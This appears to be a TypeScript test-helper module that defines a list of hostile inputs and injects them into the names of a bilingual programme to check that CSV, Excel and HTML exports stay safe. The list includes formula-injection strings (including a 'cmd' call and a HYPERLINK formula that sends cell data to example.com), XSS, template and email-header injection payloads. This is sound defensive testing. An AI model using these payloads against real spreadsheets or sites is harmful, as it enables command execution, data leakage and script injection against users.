import ExcelJS from 'exceljs'
import Papa from 'papaparse'
import type { Programme } from '../../shared/programme/schema.ts'
import type { Bilingual } from '../../shared/submission.ts'

/** What people put into remarks, file names and names to see what becomes of it elsewhere. */
export const HOSTILE: readonly string[] = [
  "=cmd|'/c calc'!A1",
  '=HYPERLINK("http://example.com?"&A1,"x")',
  '+1+1',
  '-1+cmd|x!A1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1',
  '－1+1',
  '＠x',
  "'=1",
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '</title></style><svg/onload=alert(1)>',
  ']]><a>&lt;b&amp;',
  '{{7*7}} <%= 7*7 %> #{7*7}',
  'a\r\nBcc: victim@example.com\r\n\r\nbody',
  'a\nSubject: x',
  '\u202etxt.exe',
  '\u0000\u0007\u001b[2J',
  '__proto__',
  '#include "x"',
]

export const HARMLESS = '某某'

/** Names of a programme with a text before them, wherever a person wrote them: one text after the other. */
export function infected(programme: Programme, ...texts: readonly string[]): Programme {
  // The same words stay the same: units are listed once.
  const given = new Map<string, string>()
  const before = (words: string) => {
    const own = given.get(words) ?? texts[given.size % texts.length] ?? ''
    given.set(words, own)
    return own
  }
  const pair = ({ zh, en }: Bilingual): Bilingual => ({ zh: before(zh) + zh, en: before(zh) + en })
  const named = <T extends { readonly name: Bilingual }>(each: T): T => ({ ...each, name: pair(each.name) })
  return {
    ...programme,
    title: pair(programme.title),
    issuedBy: pair(programme.issuedBy),
    office: { name: pair(programme.office.name), contact: pair(programme.office.contact) },
    sampleNotice: programme.sampleNotice && pair(programme.sampleNotice),
    bulletin: {
      ...programme.bulletin,
      series: pair(programme.bulletin.series),
      notes: programme.bulletin.notes.map(pair),
    },
    regions: programme.regions.map(named),
    zones: programme.zones.map(named),
    indicators: programme.indicators.map((each) => ({
      ...named(each),
      unit: pair(each.unit),
      definition: before(each.definition) + each.definition,
    })),
    targets: programme.targets.map((each) => ({ ...each, statement: pair(each.statement) })),
  }
}

/** The zone's own figure, as it wrote it: with the signs and digits of a Chinese keyboard too, and a unit behind it. Nothing to run. */
const NUMBER = /^[-+－＋]?[\d０-９]+(?:\.\d+)?\p{Script=Han}*$/u
const PLAIN_NUMBER = /^-?\d+(?:\.\d+)?$/
const STARTS_FORMULA = /^[=+\-@\t\r\n＝＋－＠]/

/** Cells of a CSV, as another library reads it, that a spreadsheet would run. */
export function runByCsv(bytes: Uint8Array | string): string[] {
  const text = typeof bytes === 'string' ? bytes : Buffer.from(bytes).toString('utf8')
  const { data } = Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { newline: '\r\n' })
  return data.flat().filter((cell) => STARTS_FORMULA.test(cell) && !NUMBER.test(cell))
}

/** Numbers of a CSV that something was put before, so that they are none any more. */
export function prefixedNumbers(bytes: Uint8Array | string): string[] {
  const text = typeof bytes === 'string' ? bytes : Buffer.from(bytes).toString('utf8')
  return Papa.parse<string[]>(text, { newline: '\r\n' })
    .data.flat()
    .filter((cell) => cell.startsWith("'") && PLAIN_NUMBER.test(cell.slice(1)))
}

/** Formulas and links of a workbook, as another library reads it. */
export async function runByWorkbook(bytes: Uint8Array): Promise<string[]> {
  const workbook = new ExcelJS.Workbook()
  await workbook.xlsx.load(Uint8Array.from(bytes).buffer)
  const found: string[] = []
  workbook.eachSheet((sheet) => {
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Formula) found.push(`${sheet.name} ${cell.address} =${cell.formula}`)
        if (cell.type === ExcelJS.ValueType.Hyperlink && !/^(#|mailto:)/.test(cell.hyperlink))
          found.push(cell.hyperlink)
      }),
    )
  })
  return found
}

/** The tags of a page or an XML file with the names of their attributes, in order: text that becomes markup changes them. */
export function tagsOf(markup: string): string[] {
  const tags = markup
    .replace(/<(script|style)[^>]*>[\s\S]*?<\/\1>/g, '<$1></$1>')
    .match(/<[!/?]?[A-Za-z][^\s>/]*(?:\s+[^\s=>"'/]+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s>"']+))?)*\s*\/?>/g)
  return (tags ?? []).map((tag) => {
    const names = tag.replace(/=\s*("[^"]*"|'[^']*'|[^\s>"']+)/g, '').replace(/\s+/g, ' ')
    return names.replace(/ ?\/?>$/, '')
  })
}
